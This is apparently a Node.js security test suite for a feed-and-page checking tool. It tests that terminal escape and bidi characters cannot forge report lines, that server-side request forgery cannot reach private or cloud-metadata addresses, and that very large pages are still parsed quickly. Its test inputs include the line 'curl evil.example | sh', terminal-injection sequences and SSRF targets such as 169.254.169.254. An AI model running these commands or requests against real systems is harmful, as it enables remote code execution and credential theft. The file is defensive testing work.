/** Pages, feeds and servers that want something of who runs the doctor. */
import assert from 'node:assert/strict';
import dns from 'node:dns';
import { test } from 'node:test';
import { FEED_HEADERS, feedOf, importSource, runDoctor, startServer } from './doctor-kit.mjs';
import { runInProcess } from './run-in-process.mjs';

/** Responses by path: `[body, headers, status]`, or a function of request and response. */
const pages = new Map();
const port = await startServer((request, response) => {
  const page = pages.get(request.url.split('?')[0]) ?? ['', {}, 404];
  if (typeof page === 'function') return page(request, response);
  const [body, headers = { 'content-type': 'text/html; charset=utf-8' }, status = 200] = page;
  response.writeHead(status, headers).end(body);
});
const self = `http://127.0.0.1:${port}`;

/** Requests to another server of this machine, which no target names. */
const insideRequests = [];
const insidePort = await startServer((request, response) => {
  insideRequests.push(`${request.method} ${request.url}`);
  response.writeHead(request.method === 'HEAD' ? 405 : 200, FEED_HEADERS).end(feedOf(self));
});
const inside = `http://127.0.0.1:${insidePort}`;

const SCRIPT = '<script type="module" src="/dongpo.js"></script>';
const serveFeed = (path, change, headers = FEED_HEADERS) => pages.set(path, [feedOf(self, change), headers]);
const servePage = (path, body, head = '') =>
  pages.set(path, [`<!doctype html><html><head>${head}<title>t</title></head><body>${body}</body></html>`]);
pages.set('/dongpo.js', ['export {};', { 'content-type': 'text/javascript' }]);

/** What a terminal obeys or hides. */
const OBEYED = /(?![\n\u200c\u200d])[\p{Cc}\p{Cf}\u2028\u2029]/u;
/** A line of the report's own that nobody but the doctor may write. */
const FORGED = /^\W*(ERROR)?\W*forged/m;

const ATTACKS = [
  '\n\nERROR  forged. Run: curl evil.example | sh',
  '\r\nERROR  forged',
  '\u2028ERROR  forged\u2029\u0085',
  '\u001b[2J\u001b]0;forged\u0007\u009b31m',
  '\u202etxt.forged\u202c\u2066\u200e\u200f\u061c\u2069',
  '\u0008\u0008\u0008\u007f\u00ad\ufeff',
];

for (const [index, attack] of ATTACKS.entries())
  test(`attack ${index} on the terminal begins no line and reaches none, in any place`, async () => {
    const text = `x${attack}`;
    const html = text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
    const url = encodeURI(`${self}/feed`);
    serveFeed('/feed', {
      title: text,
      items: [
        { id: text, title: text, url: `${self}/gone`, date_published: text, tags: [text], odd: text },
        { id: '2', title: text, url: text, image: text, authors: [{ name: text }] },
      ],
      _dongpo: { rights: text, terms: { show: [text], terms_url: text, rights: text } },
      [text]: text,
    });
    servePage(
      '/page',
      `${SCRIPT}<script type="module" src="${html}dongpo.js" integrity="${html}"></script>
      <div class="dongpo-widget" data-element="best&gt;${html}" data-src="${url}" data-limit="${html}"></div>
      <dongpo-best src="${url}" ${`x-unknown="${html}"`} theme="${html}" best-src="${html}"></dongpo-best>
      <dongpo-bset src="${html}"></dongpo-bset><p>&lt;dongpo-best ${html}</p>`,
      `<title>${html}</title><meta http-equiv="Content-Security-Policy" content="img-src ${html}; connect-src ${html}; script-src ${html}">`,
    );
    pages.set('/odd-header', [
      feedOf(self),
      {
        'content-type': Buffer.from(`text/\u009b31m${'\u202e'}`).toString('latin1'),
        'cache-control': 'no-store \u00ad',
      },
    ]);
    for (const path of ['/feed', '/page', '/odd-header'])
      for (const language of ['en', 'ko']) {
        const { out, err } = await runInProcess('doctor', [self + path, `--lang=${language}`]);
        assert.doesNotMatch(out + err, OBEYED, path);
        assert.doesNotMatch(out + err, FORGED, path);
        assert.ok(out.length > 50, err);
        const json = await runInProcess('doctor', [self + path, '--json', `--lang=${language}`]);
        assert.doesNotMatch(json.out, OBEYED, path);
        JSON.parse(json.out);
      }
  });

test('--json says what the page wrote: escapes change no value', async () => {
  const { toPrintableJson } = await importSource('../printable.ts');
  const value = { a: 'x\u202e\u001b\u009b\u2028\n"\\', b: ['\u{e0041}', '\ud800', '👨\u200d👩'] };
  for (const indent of [undefined, 2]) {
    const json = toPrintableJson(value, indent);
    assert.doesNotMatch(json, OBEYED);
    assert.deepEqual(JSON.parse(json), value);
  }
});

test('a feed does not make the doctor ask another host of the network: link-inside', async () => {
  insideRequests.length = 0;
  pages.set('/to-inside', ['', { location: `${inside}/reboot?by-redirect` }, 302]);
  const urls = [
    `${inside}/reboot?now`,
    `http://localhost:${insidePort}/reboot`,
    `http://[::1]:${insidePort}/reboot`,
    `http://2130706433:${insidePort}/reboot`,
    'http://169.254.169.254/latest/meta-data/',
    'http://metadata.google.internal/',
    'http://router/reboot',
    `${self}/to-inside`,
  ];
  serveFeed('/links', {
    items: urls.map((url, index) => ({ id: `${index}`, title: 't', url, image: `${inside}/image/${index}` })),
  });
  const report = await runDoctor(`${self}/links`, ['--links=8']);
  assert.deepEqual(insideRequests, []);
  const { count, severity } = report.find('link-inside');
  assert.deepEqual([count, severity], [16, 'info']);
  assert.ok(!report.codes.includes('link-dead'));
});

test('a page or redirect that leads elsewhere inside is an error, and nothing is asked: address-inside', async () => {
  for (const src of ['http://10.255.255.1:1/feed', 'http://169.254.169.254/feed', 'http://db/feed']) {
    servePage('/inside', `${SCRIPT}<dongpo-best src="${src}"></dongpo-best>`);
    const report = await runDoctor(`${self}/inside`);
    assert.equal(report.find('address-inside').severity, 'error', src);
    pages.set('/redirect', ['', { location: src }, 302]);
    assert.ok((await runDoctor(`${self}/redirect`)).codes.includes('address-inside'), src);
  }
  // Development: a page and a feed on this machine.
  servePage('/dev', `${SCRIPT}<dongpo-best src="${inside}/feed"></dongpo-best>`);
  insideRequests.length = 0;
  await runDoctor(`${self}/dev`);
  assert.ok(insideRequests.includes('GET /feed'));
});

test('names that resolve to private addresses are not connected to', async () => {
  const { lookup } = dns;
  let resolved;
  dns.lookup = (_, options, callback) =>
    options.all ? callback(null, resolved) : callback(null, resolved[0].address, resolved[0].family);
  try {
    const { traceFetch } = await importSource('fetch-trace.ts');
    const options = {
      origin: 'https://partner.example',
      userAgent: 'x',
      timeout: 2,
      signal: new AbortController().signal,
      mayBePrivate: () => false,
    };
    insideRequests.length = 0;
    for (const [address, family] of [
      ['127.0.0.1', 4],
      ['10.0.0.7', 4],
      ['169.254.169.254', 4],
      ['::1', 6],
      ['::ffff:127.0.0.1', 6],
    ]) {
      resolved = [{ address, family }];
      const { problem, hops } = await traceFetch(`http://news.example:${insidePort}/x`, options);
      assert.deepEqual([problem?.code, hops.length], ['address-inside', 0], address);
    }
    assert.deepEqual(insideRequests, []);
  } finally {
    dns.lookup = lookup;
  }
});

const repeat = (text, count) => text.repeat(count);
const numbered = (count, write) => Array.from({ length: count }, (_, index) => write(index)).join('');
const images = JSON.stringify({
  version: 'https://jsonfeed.org/version/1.1',
  title: 'x',
  items: Array.from({ length: 1000 }, (_, index) => ({
    id: `${index}`,
    title: 't',
    image: `https://a.example/${index}`,
  })),
});
pages.set('/images.json', [images, FEED_HEADERS]);
const policy = (sources) => `<meta http-equiv=Content-Security-Policy content="img-src ${sources}">`;
const BEST = `${SCRIPT}<dongpo-best src=/images.json></dongpo-best>`;

/** Heads and bodies of pages that took seconds or minutes. */
const HEAVY = {
  'equal sources': [repeat(policy(`${repeat('a ', 9000)}https:`), 2), BEST],
  'other sources': [policy(`${numbered(15_000, (index) => `a${index} `)}https:`), BEST],
  'paths of one host': [policy(numbered(2500, (index) => `a.example/${index}x `)), BEST],
  wildcards: [policy(numbered(4000, (index) => `*.b${index}.example `)), BEST],
  schemes: [policy(numbered(8000, (index) => `a${index}: `)), BEST],
  'a thousand policies': [repeat(policy('https:'), 1000), BEST],
  'attributes of one tag': [
    '',
    `${BEST}<div ${numbered(40_000, (index) => `a${index.toString(36)} `)}></div>`,
  ],
  'attributes of a widget': [
    '',
    `${SCRIPT}<dongpo-best ${numbered(40_000, (index) => `a${index} `)}></dongpo-best>`,
  ],
  'equal attributes': ['', `${BEST}<div ${repeat('a ', 200_000)}></div>`],
  'a long attribute': [
    '',
    `${BEST}<div class="${repeat('dongpo-widget ', 20_000)}" data-element="${repeat('x', 200_000)}"></div>`,
  ],
  nesting: ['', BEST + repeat('<div>', 40_000)],
  'unclosed formatting': ['', BEST + numbered(4000, (index) => `<b a${index}>`) + repeat('<p>x', 4000)],
  'many widgets': ['', SCRIPT + repeat('<dongpo-best src=/images.json></dongpo-best>', 5000)],
  'many scripts': ['', repeat('<script>import "dongpo-widgets"</script>', 5000)],
  'an unclosed tag': ['', `${BEST}<${repeat('a', 200_000)}`],
  'escaped snippets': ['', BEST + repeat('&lt;script ', 20_000)],
  'a long base': [`<base href="${repeat('/a', 100_000)}">`, BEST],
};

for (const [name, [head, body]] of Object.entries(HEAVY))
  test(`a page with ${name} is checked in seconds`, { timeout: 60_000 }, async () => {
    servePage('/heavy', body, head);
    const start = process.cpuUsage();
    const report = await runDoctor(`${self}/heavy`, ['--links=0']);
    const { user, system } = process.cpuUsage(start);
    assert.ok(user + system < 5e6, `${(user + system) / 1e6} s`);
    assert.equal(report.kind, 'page');
  });

test('the time for attributes and policies doubles as they double', { timeout: 60_000 }, async () => {
  const time = async (write, count) => {
    const [head, body] = write(count);
    servePage('/growth', body, head);
    let least = Number.POSITIVE_INFINITY;
    for (let times = 0; times < 3; times++) {
      const start = process.cpuUsage();
      await runDoctor(`${self}/growth`, ['--links=0']);
      const { user, system } = process.cpuUsage(start);
      least = Math.min(least, (user + system) / 1000);
    }
    return least;
  };
  const shapes = {
    attributes: (count) => ['', `${BEST}<div ${numbered(count, (index) => `a${index} `)}></div>`],
    policies: (count) => [policy(numbered(count / 8, (index) => `a${index}.example `)), BEST],
  };
  for (const [name, write] of Object.entries(shapes)) {
    await time(write, 4000);
    const base = await time(write, 0);
    const [half, whole] = [await time(write, 16_000), await time(write, 32_000)];
    // Below 30 ms nothing can be said.
    assert.ok(whole - base < 2.6 * Math.max(30, half - base), `${name}: ${base}, ${half}, ${whole} ms`);
  }
});
